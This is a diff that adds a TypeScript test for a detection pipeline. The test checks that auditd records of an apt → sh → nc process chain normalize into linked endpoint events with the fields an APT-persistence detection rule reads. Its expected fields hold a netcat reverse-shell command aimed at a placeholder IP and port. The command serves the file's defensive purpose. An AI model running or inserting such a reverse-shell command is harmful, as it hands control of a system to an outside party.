@@ -1,0 +1,86 @@
+/**
+ * The auditd chain: raw auditd records for apt → `sh -c` → nc, normalized to Defend's shape,
+ * give events whose entity ids chain (the child's process.parent.entity_id is the parent's
+ * process.entity_id) and carry every field the seed rule "Suspicious APT Package Manager
+ * Execution" (persistence_apt_package_manager_execution.toml) reads.
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { normalizeLines } from './normalize';
+import { getField, type Doc } from './field';
+
+const lines = readFileSync(join(__dirname, 'testdata', 'apt-chain.audit.log'), 'utf8').split('\n');
+
+describe('auditd apt → sh -c → nc chain (endpoint shape)', () => {
+  const { events, errors } = normalizeLines(lines, { format: 'auditd', shape: 'endpoint' });
+  const byName = (n: string) =>
+    events.find((e) => getField(e, 'process.name') === n && getField(e, 'event.action') === 'exec') as Doc;
+
+  it('normalizes every event without errors, in input order', () => {
+    expect(errors).toEqual([]);
+    expect(events.map((e) => getField(e, 'event.action'))).toEqual([
+      'exec',
+      'exec',
+      'exec',
+      'connection_attempted',
+    ]);
+  });
+
+  it('chains entity ids from the per-host process table', () => {
+    const [apt, sh, nc] = [byName('apt'), byName('sh'), byName('nc')];
+    expect(getField(sh, 'process.parent.entity_id')).toBe(getField(apt, 'process.entity_id'));
+    expect(getField(nc, 'process.parent.entity_id')).toBe(getField(sh, 'process.entity_id'));
+    const conn = events[3];
+    expect(getField(conn, 'process.entity_id')).toBe(getField(nc, 'process.entity_id'));
+    expect(new Set(events.slice(0, 3).map((e) => getField(e, 'process.entity_id'))).size).toBe(3);
+  });
+
+  it('carries what the seed rule reads', () => {
+    const sh = byName('sh');
+    expect(sh).toMatchObject({
+      _index: 'logs-endpoint.events.process-default',
+      host: { id: 'build-01', os: { type: 'linux' } },
+      event: { category: ['process'], type: ['start'], action: 'exec' },
+      process: {
+        name: 'sh',
+        executable: '/usr/bin/dash',
+        args: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'],
+        command_line: 'sh -c nc -e /bin/sh 203.0.113.7 4444',
+        parent: {
+          name: 'apt',
+          executable: '/usr/bin/apt',
+          args: ['apt', 'install', '-y', 'curl'],
+          command_line: 'apt install -y curl',
+        },
+      },
+    });
+    expect(byName('nc')).toMatchObject({
+      process: { name: 'nc', parent: { name: 'sh', args: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'] } },
+    });
+  });
+
+  it('gives the same ids on every run (stable, derived from host, pid and start time)', () => {
+    const again = normalizeLines(lines, { format: 'auditd', shape: 'endpoint' }).events;
+    expect(again.map((e) => getField(e, 'process.entity_id'))).toEqual(
+      events.map((e) => getField(e, 'process.entity_id')),
+    );
+  });
+
+  it('keeps the process table bounded', () => {
+    const many: string[] = [];
+    for (let pid = 100; pid < 400; pid++) {
+      const h = `msg=audit(1767225600.${String(pid).padStart(3, '0')}:${pid}):`;
+      many.push(
+        `node=h type=SYSCALL ${h} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=${pid} uid=0 comm="x" exe="/bin/x"`,
+      );
+      many.push(`node=h type=EOE ${h}`);
+    }
+    const out = normalizeLines(many, {
+      format: 'auditd',
+      shape: 'endpoint',
+      processTable: { maxProcessesPerHost: 50 },
+    });
+    expect(out.errors).toEqual([]);
+    expect(out.events).toHaveLength(300);
+  });
+});
